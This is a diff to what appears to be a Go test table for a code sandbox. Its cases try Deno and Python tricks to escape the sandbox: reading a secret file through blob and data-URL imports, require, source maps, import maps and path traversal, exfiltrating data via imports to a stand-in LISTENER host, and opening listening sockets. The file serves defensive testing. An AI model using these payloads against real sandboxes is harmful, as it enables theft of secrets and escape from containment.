@@ -19,11 +19,11 @@ var files = []attack{
 	{row: "27m", name: "import in a blob", lang: javascript, code: `await import(URL.createObjectURL(new Blob(['import t from "file://SECRETFILE.txt" with { type: "text" }; console.log(t)'], { type: "text/javascript" })))`, want: refused},
 	{row: "27n", name: "import in a data URL", lang: javascript, code: `await import('data:text/javascript,import t from "file://SECRETFILE.txt" with { type: "text" }; console.log(t)')`, want: refused},
 	{row: "27o", name: "import in another file", lang: javascript, code: `import "./lib.ts"`, files: []file{{"lib.ts", `import t from "SECRETFILE.txt" with { type: "text" }; console.log(t)`}}, want: refused},
-	{row: "27p", name: "require", lang: javascript, code: `import { createRequire } from "node:module"; console.log(createRequire(import.meta.url)("SECRETFILE.json"))`, want: refused},
+	{row: "27p", name: "require", lang: javascript, code: `import { createRequire } from "node:module"; console.log(createRequire(import.meta.url)("SECRETFILE.json"))`, want: []string{"failed", "not_installed"}},
 	{row: "27q", name: "worker from a file", lang: javascript, code: `const w = new Worker("file://SECRETFILE.ts", { type: "module" }); await new Promise((f) => { w.onerror = f; w.onmessage = f; setTimeout(f, 500) })`},
 	{row: "27r", name: "source map", lang: javascript, code: "//# sourceMappingURL=file://SECRETFILE.json\nthrow new Error('x')", want: refused},
-	{row: "27s", name: "import map in a file", lang: javascript, code: `import t from "secret"; console.log(t)`, files: []file{{"deno.json", `{"imports":{"secret":"SECRETFILE.ts"}}`}}, want: []string{"failed", "not_installed"}},
-	{row: "27t", name: "npm: package of the disk", lang: javascript, code: `import t from "npm:x@file:SECRETFILE.ts"; console.log(t)`, want: []string{"failed", "not_installed"}},
+	{row: "27s", name: "import map in a file", lang: javascript, code: `import t from "secret"; console.log(t)`, keeps: true, files: []file{{"deno.json", `{"imports":{"secret":"SECRETFILE.ts"}}`}}, want: []string{"failed", "not_installed"}},
+	{row: "27t", name: "npm: package of the disk", lang: javascript, code: `import t from "npm:x@file:SECRETFILE.ts"; console.log(t)`, keeps: true, want: []string{"failed", "not_installed"}},
 	{row: "27u", name: "wasm import", lang: javascript, code: `import * as t from "SECRETFILE.wasm"; console.log(t)`, want: refused},
 	{row: "28", name: "open", lang: python, code: "open('SECRETFILE.txt').read()", want: refused, has: "FileNotFoundError"},
 	{row: "28b", name: "upward path", lang: python, code: "open('../../../../../../../..SECRETFILE.txt').read()", want: refused},
@@ -91,7 +91,7 @@ for (const [name, f] of Object.entries(tries)) {
   try { await Promise.race([f(), new Promise((_, r) => setTimeout(() => r(new Error("late")), 300))]); console.log("reached", name) } catch (e) { console.log(name, "refused") }
 }
 Deno.exit(0)`, want: nil, not: "reached"},
-	{row: "35", name: "import as a message", lang: javascript, code: `for (const u of ["http://LISTENER/x.js?secret", "https://LISTENER/x.js?secret", "https://esm.sh/x?secret", "jsr:@std/none@9?secret", "npm:@evil/none" + "pkg"]) { try { await import(u); console.log("reached", u) } catch (e) { console.log(e.name) } }`, not: "reached"},
+	{row: "35", name: "import as a message", lang: javascript, code: `for (const u of ["http://LISTENER/x.js?secret", "https://LISTENER/x.js?secret", "https://esm.sh/x?secret", "jsr:@std/none@9?secret", "npm:@evil/none" + "pkg"]) { try { await import(u); console.log("reached", u) } catch (e) { console.log(e.name) } }`, keeps: true, not: "reached"},
 	{row: "35b", name: "computed import", lang: javascript, code: `const p = "ht" + "tp://LISTENER/x.js"; await import(p)`, want: refused},
 	{row: "36", name: "listens", lang: javascript, code: "for (const f of [() => Deno.serve({ port: 0 }, () => new Response('')), () => Deno.listen({ port: 0 }), () => Deno.listen({ transport: 'unix', path: 's' }), () => Deno.listenDatagram({ port: 0, transport: 'udp' })]) { try { f(); console.log('reached') } catch (e) { console.log(e.name) } }\nDeno.exit(0)", not: "reached"},
 	{row: "36b", name: "listens", lang: python, code: "import socket\ns = socket.socket()\ntry:\n    s.bind(('127.0.0.1', 0)); s.listen(); print('reached', s.getsockname())\nexcept OSError as e: print('refused')", not: "reached"},
